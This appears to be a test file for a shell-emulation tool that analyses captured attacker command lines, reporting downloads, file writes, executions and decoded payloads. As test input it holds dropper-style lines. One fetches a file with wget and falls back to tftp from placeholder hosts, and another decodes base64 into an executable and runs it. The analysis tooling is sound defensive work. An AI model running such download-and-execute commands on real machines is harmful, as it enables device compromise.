# SPDX-License-Identifier: Apache-2.0
"""`mead shell`: lines in, records out."""

from __future__ import annotations

import json
from pathlib import Path

from click.testing import CliRunner

from mead.cli.shell import command
from mead.errors import ConfigError

LINES = Path(__file__).parents[1] / "captures" / "shell" / "download-lines.jsonl"


def records(*arguments: str, text: str = "") -> list[dict]:
    result = CliRunner().invoke(command, [*arguments, "-o", "jsonl"], input=text, catch_exceptions=False)
    assert result.exit_code == 0
    return [json.loads(line) for line in result.stdout.splitlines()]


def offers(record: dict) -> list[str]:
    return [effect["url"] for effect in record["effects"] if effect["kind"] == "offer"]


def test_each_line_that_was_seen_offers_what_it_must() -> None:
    cases = [json.loads(line) for line in LINES.read_text().splitlines()]
    found = records("--each", str(LINES))
    assert len(found) == len(cases)
    for case, record in zip(cases, found, strict=True):
        assert set(case["expect_required"]) <= set(offers(record))


def test_lines_share_a_session_unless_each_has_its_own() -> None:
    text = "x=1; echo a > /tmp/f\necho $x; cat /tmp/f\n"
    assert [record["output"] for record in records(text=text)] == ["", "1\na\n"]
    apart = records("--each", text=text)
    assert apart[1]["output"] == "\ncat: can't open '/tmp/f': No such file or directory\n"


def test_a_line_may_stand_in_json() -> None:
    text = '"echo a"\n{"cmd": "echo b\\necho c"}\n{ echo d; }\n'
    assert [record["output"] for record in records(text=text)] == ["a\n", "b\nc\n", "d\n"]


def test_effects_are_reported_with_digests() -> None:
    (record,) = records("--each", text="echo QUJD | base64 -d > /tmp/x; chmod +x /tmp/x; /tmp/x\n")
    digest = "b5d4045c3f466fa91fe2cc6abe79232a1a57cdf104f7a26e716e0a1e2789df78"
    kinds = {effect["kind"]: effect for effect in record["effects"]}
    assert (kinds["file"]["sha256"], kinds["file"]["size"], kinds["file"]["path"]) == (digest, 3, "/tmp/x")
    assert (kinds["exec"]["path"], kinds["exec"]["sha256"]) == ("/tmp/x", digest)
    assert (kinds["decoded"]["layer"], kinds["decoded"]["excerpt"]) == ("base64", "ABC")


def test_what_a_failed_download_would_lead_to_is_marked() -> None:
    (record,) = records("--each", text="wget http://192.0.2.1/a || tftp -g -r a 192.0.2.2\n")
    assert [(effect["url"], effect.get("alternative")) for effect in record["effects"]] == [
        ("http://192.0.2.1/a", None), ("tftp://192.0.2.2/a", True),
    ]  # fmt: skip


def test_a_person_sees_no_live_links_and_no_control_characters() -> None:
    text = "wget http://192.0.2.1/a; printf '\\033[31mred'\n"
    result = CliRunner().invoke(command, ["-o", "table"], input=text, catch_exceptions=False)
    assert "hxxp://192[.]0[.]2[.]1/a" in result.stdout
    assert "\x1b[31m" not in result.stdout


def test_personas_are_listed_and_chosen() -> None:
    assert len(records("--persona", "list")) >= 10
    (record,) = records("--persona", "router-mips", text="uname -m\n")
    assert record["output"] == "mips\n"
    result = CliRunner().invoke(command, ["--persona", "nosuch"])
    assert isinstance(result.exception, ConfigError)
